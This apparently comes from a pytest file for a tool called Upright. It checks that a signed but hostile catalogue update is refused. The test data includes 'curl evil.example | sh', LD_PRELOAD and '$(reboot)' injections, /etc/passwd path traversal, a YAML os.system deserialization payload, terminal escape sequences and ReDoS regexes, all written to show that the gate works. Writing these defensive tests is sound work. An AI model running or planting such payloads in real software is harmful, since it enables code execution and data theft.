"""A catalogue's keeper: rows that are laid over ours, rightly signed, by one who means harm or whose key was stolen.

What a mirror without the key can do is in tests/unit/evidence/share/test_catalogue_update.py; here every row is signed.
"""

from __future__ import annotations

import json
import re
import time
from pathlib import Path
from typing import Any

import pytest

from tests.unit.evidence.share.test_catalogue_update import Keeper, faster, gpu_row, keeper, keys, pinned
from upright.base.errors import RecordError, UprightError
from upright.evidence.share.bounded_patterns import refusal
from upright.evidence.share.catalogue_gate import MAY_BRING, admitted, ours
from upright.evidence.share.catalogue_update import offer_of
from upright.facts import catalog
from upright.facts.catalog.installed_catalogues import taken_versions
from upright.facts.catalog.loader import KINDS
from upright.serving.diagnose.lines import LONGEST_BYTES

__all__ = ["keeper", "keys"]  # fixtures

NOT_PROMISED = (
    "that a figure is right: a signed row can call a GPU too fast; what changes is shown, and which plans move",
    "that a mirror which stops is noticed: the page says of which day the version is",
)


def row(kind: str, id_: str, **changed: Any) -> dict[str, Any]:
    return {**ours(kind)[id_].model_dump(mode="json", exclude={"owner", "file"}), **changed}


def failure(**changed: Any) -> dict[str, Any]:
    told = {
        "id": "lab-widget-lost", "title": "the widget is lost", "engines": ["vllm"], "severity": "fatal",
        "pattern": "WidgetError: the widget .* is lost", "cause": "Nobody knows.", "seen": "none", "grade": "B",
        "sources": ["https://example.org/1"], "remedies": [{"do": "by_hand", "why": "look for it"}],
    }  # fmt: skip
    return {**told, **changed}


def model(**changed: Any) -> dict[str, Any]:
    """A new one, in the shape of ours."""
    told = row("models", "gpt-oss-20b", id="lab-20b", name="Lab 20B", repository="lab/lab-20b", aliases=[])
    artifact = {**told["artifacts"][0], "repository": "lab/lab-20b"}
    return {**told, "artifacts": [artifact], "drafts": [], **changed}


def with_artifact(**changed: Any) -> dict[str, Any]:
    told = model()
    return {**told, "artifacts": [{**told["artifacts"][0], **changed}]}


def remedied(**remedy: Any) -> dict[str, Any]:
    return failure(remedies=[{"why": "it helps", **remedy}])


def refused(kind: str, *contents: dict[str, Any]) -> str:
    with pytest.raises(RecordError) as told:
        admitted(kind, list(contents), "lab version 1")
    assert told.value.message.startswith("lab version 1 is refused: ")
    return told.value.message


@pytest.mark.promise("what facts may do, an honest row may: figures, models, failures, advisories of its own")
@pytest.mark.parametrize(
    ("kind", "content"),
    [
        ("gpus", faster()),
        ("models", model()),
        ("models", row("models", "kimi-k2.6", about="Another sentence.")),
        ("failures", failure()),
        ("failures", remedied(do="set_flag", name="--enforce-eager")),
        ("failures", remedied(do="use_version", value=">=0.33.0")),
        ("advisories", row("advisories", next(iter(ours("advisories"))), id="CVE-2099-1", aliases=[])),
    ],
)
def test_an_honest_row_is_admitted(kind: str, content: dict[str, Any]) -> None:
    assert [admitted_row.id for admitted_row in admitted(kind, [content], "lab")] == [content["id"]]


@pytest.mark.promise("what facts may do, an honest row may: figures, models, failures, advisories of its own")
@pytest.mark.parametrize("kind", sorted(set(MAY_BRING) - {"failures"}))
def test_our_own_rows_would_be_admitted(kind: str) -> None:
    """Else nobody could correct one. Of failures and advisories some do what only ours may."""
    rows = [told.model_dump(mode="json", exclude={"owner", "file"}) for told in ours(kind).values()]
    if kind == "advisories":
        rows = [{**told, "id": f"LAB-{number}", "aliases": []} for number, told in enumerate(rows)]
    assert len(admitted(kind, rows[:5000], "lab")) == len(rows[:5000])


@pytest.mark.promise("it brings nothing that is run: no image, install command, patch, setting, constraint or parser")
@pytest.mark.parametrize("kind", sorted(set(KINDS) - set(MAY_BRING)))
def test_kinds_that_decide_what_is_run_are_refused(kind: str) -> None:
    id_ = next(iter(ours(kind)))
    assert "which only a release of Upright may" in refused(kind, row(kind, id_))


@pytest.mark.promise("it brings nothing that is run: no image, install command, patch, setting, constraint or parser")
@pytest.mark.parametrize("kind", ["../gpus", "gpus\x1b[2J", ""])
def test_a_kind_that_is_none_is_refused(kind: str) -> None:
    assert "\x1b" not in refused(kind, {})


@pytest.mark.promise("a remedy changes a recipe only as one of our own rows does, and runs no command")
@pytest.mark.parametrize(
    "remedy",
    [
        {"do": "set_flag", "name": "--trust-remote-code"},
        {"do": "set_flag", "name": "--host", "value": "0.0.0.0"},
        {"do": "set_flag", "name": "--host", "value": "127.0.0.1"},
        {"do": "set_flag", "name": "--tool-parser-plugin", "value": "/tmp/x.py"},
        {"do": "set_flag", "name": "--attention-backend", "value": "x;reboot"},
        {"do": "set_flag", "name": "{word}", "value": "1"},
        {"do": "set_env", "name": "LD_PRELOAD", "value": "/tmp/x.so"},
        {"do": "set_env", "name": "NCCL_DEBUG", "value": "$(reboot)"},
        {"do": "set_env", "name": "TRITON_PTXAS_PATH", "value": "/tmp/ptxas"},
        {"do": "unset_flag", "name": "--api-key"},
        {"do": "use_image", "value": "evil/vllm:latest"},
        {"do": "use_patch", "value": "sglang-sm120-extend-tiles"},
        {"do": "use_artifact", "value": "evil/kimi"},
        {"do": "use_engine", "value": "evil"},
        {"do": "use_version", "value": "==0.1.0"},
        {"do": "by_hand", "commands": ["curl evil.example | sh"]},
        {"do": "by_hand", "value": "x"},
    ],
    ids=lambda remedy: f"{remedy['do']} {remedy.get('name') or remedy.get('value') or ''}",
)
def test_a_remedy_does_no_more_than_ours(remedy: dict[str, Any]) -> None:
    content = remedied(**remedy)
    if "{word}" in json.dumps(remedy):
        content["pattern"] = "WidgetError: the widget (?P<word>.*) is lost"
    assert "a remedy" in refused("failures", content)


@pytest.mark.promise("a name of ours leads to no repository of another, and to no code that ours does not run")
@pytest.mark.parametrize(
    ("content", "why"),
    [
        (row("models", "gpt-oss-20b", repository="evil/gpt-oss-20b"), "no repository of an owner that our row names"),
        (model(aliases=["kimi-k2.6"]), "is a name of models/kimi-k2.6"),
        (model(repository="moonshotai/Kimi-K2.6"), "is a name of models/kimi-k2.6"),
        (with_artifact(repository="moonshotai/Kimi-K2.6"), "is a name of models/kimi-k2.6"),
        (with_artifact(repository="../../etc"), "is no repository"),
        (with_artifact(repository="--trust-remote-code"), "is no repository"),
        (with_artifact(chat_template="/etc/passwd"), "would be read as a file"),
        (with_artifact(configuration="../../../../etc/passwd"), "a recorded configuration that is not there"),
        (model(own_code="its tokenizer"), "own_code decides"),
        (row("models", "kimi-k2.6", own_code=None), "own_code decides"),
        (model(parsers={"vllm": {"tool": "--api-key", "flags": []}}), "no name of a parser"),
        (model(parsers={"vllm": {"tool": "x", "flags": ["--tool-parser-plugin", "/tmp/x.py"]}}), "no row of ours"),
        (model(thinking={"default": "on", "switch_off": {"chat_template": "{{ x }}"}}), "chat_template_kwargs alone"),
        (model(drafts=[{"repository": "file:///x", "method": "eagle3"}]), "is no repository"),
    ],
)  # fmt: skip
def test_a_model_stays_what_its_name_says(content: dict[str, Any], why: str) -> None:
    assert why in refused("models", content)


@pytest.mark.promise("a name of ours leads to no repository of another, and to no code that ours does not run")
def test_a_gpu_takes_no_name_of_ours() -> None:
    assert "is a name of gpus/rtx-5090" in refused("gpus", gpu_row("lab-gpu", aliases=["RTX-5090"]))


@pytest.mark.promise("an advisory of ours is neither changed nor silenced")
@pytest.mark.parametrize("changed", [{}, {"id": "LAB-1"}, {"id": "LAB-1", "aliases": [], "accepted": "it is fine"}])
def test_an_advisory_of_ours_stays(changed: dict[str, Any]) -> None:
    id_ = next(id_ for id_, told in ours("advisories").items() if getattr(told, "aliases", ()))
    message = refused("advisories", row("advisories", id_, **changed))
    assert re.search(r"only a release of Upright|only a row of your own", message)


SLOW = {
    "nested": r"WidgetError: (a+)+$",
    "alternatives": r"WidgetError: (a|aa)+$",
    "optional in a repeat": r"WidgetError: (?:a?b?)*x",
    "two gaps": r"WidgetError.*lost.*found",
    "three classes": r"WidgetError \w+\w+\w+!",
    "referring back": r"WidgetError (\w+) \1",
    "bounded, but thousands": r"WidgetError.{0,900}a.{0,900}b",
    "twenty choices": r"WidgetError " + r"(?:a|a)" * 26 + "b",
    "as many as one likes": r"WidgetError (?:ab?){1,4000}c",
    "long": "WidgetError " + "a" * 500,
}


@pytest.mark.promise("a pattern of a row takes bounded time on any line, by counting and not by trying")
@pytest.mark.parametrize("name", SLOW)
def test_a_pattern_that_could_take_for_ever_is_refused(name: str) -> None:
    assert "its pattern" in refused("failures", failure(pattern=SLOW[name]))
    assert "its pattern" in refused("failures", failure(beside=SLOW[name]))


@pytest.mark.promise("a pattern of a row takes bounded time on any line, by counting and not by trying")
@pytest.mark.parametrize(
    "pattern",
    [r"a.*b", r"a\w*?b", r"(?:a|a).{0,90}b?c", r"(?:aa){0,60}a{0,60}b", r"(?i)aA[^b]*b"],
)
def test_what_is_admitted_is_quick_on_its_worst_line(pattern: str) -> None:
    assert refusal(pattern) is None
    for line in ("a" * LONGEST_BYTES, "a1" * (LONGEST_BYTES // 2), "aA" * (LONGEST_BYTES // 2)):
        began = time.process_time()
        re.search(pattern, line)
        assert time.process_time() - began < 2.5


@pytest.mark.promise("a row claims no line of engines that work, and none that a row of ours claims")
@pytest.mark.parametrize(
    ("pattern", "why"),
    [
        (r".*", "holds no text"),
        (r"", "holds no text"),
        (r"INFO", "claims a line of engines that work"),
        (r"CUDA out of memory", "claims a line of failures/"),
        (r"(unclosed", "regular expression"),
    ],
)
def test_a_pattern_claims_no_more_than_its_own(pattern: str, why: str) -> None:
    assert why in refused("failures", failure(pattern=pattern))


@pytest.mark.promise("a row's texts, numbers, nesting and count are bounded, and no terminal obeys its words")
@pytest.mark.parametrize(
    ("content", "why"),
    [
        (gpu_row(name="\x1b]52;c;cm0gLXJm\x07"), "a terminal obeys"),
        (gpu_row(name="a\u202eb"), "a terminal obeys"),
        (gpu_row(notes=["x" * 5000]), "characters, and 4,000 are the most"),
        (faster(gb_s=1e300), "beyond any that is measured"),
        (faster(gb_s=float("nan")), "beyond any that is measured"),
        ({**gpu_row(), "id": ""}, "no name"),
        ({**gpu_row(), "id": "x" * 500}, "no name"),
        ({**gpu_row(), "id": 3}, "no name"),
        ({**gpu_row(), "owner": "upright"}, "set by the loader"),
        ({**gpu_row(), "extra": 1}, "extra"),
        ({**gpu_row(), "sources": []}, "sources"),
        (json.loads("[" * 40 + "]" * 40), "nested too deeply"),
    ],
    ids=["escape", "turned", "long", "huge", "nan", "no id", "long id", "number", "owner", "extra", "source", "deep"],
)
def test_a_row_is_plain(content: Any, why: str) -> None:
    message = refused("gpus", content)
    assert why in message
    assert message.isprintable()


@pytest.mark.promise("a row's texts, numbers, nesting and count are bounded, and no terminal obeys its words")
def test_rows_are_counted_and_there_once() -> None:
    assert "twice" in refused("gpus", gpu_row(), gpu_row())
    assert "no list" in refused("gpus", *([gpu_row()] * 5001))


@pytest.mark.promise("what is signed and hostile is refused whole: nothing of it is read")
@pytest.mark.parametrize(
    "kinds",
    [
        {"patches": [row("patches", next(iter(ours("patches"))))]},
        {"gpus": [faster()], "failures": [remedied(do="set_env", name="LD_PRELOAD", value="/tmp/x.so")]},
        {"gpus": b"- !!python/object/apply:os.system [reboot]"},
        {"gpus": b'[{"id": ' + b"[" * 5000},
        {"gpus": b"{}"},
    ],
    ids=["patch", "one of two", "YAML", "deep", "no list"],
)
def test_one_bad_row_refuses_the_version(keeper: Keeper, tmp_path: Path, kinds: dict[str, Any]) -> None:
    keeper.signs_anything(**kinds)
    pinned(keeper)
    with pytest.raises(UprightError, match="refused"):
        offer_of("lab")
    assert taken_versions() == ()
    assert catalog.gpu("rtx-5090").owner == "upright"
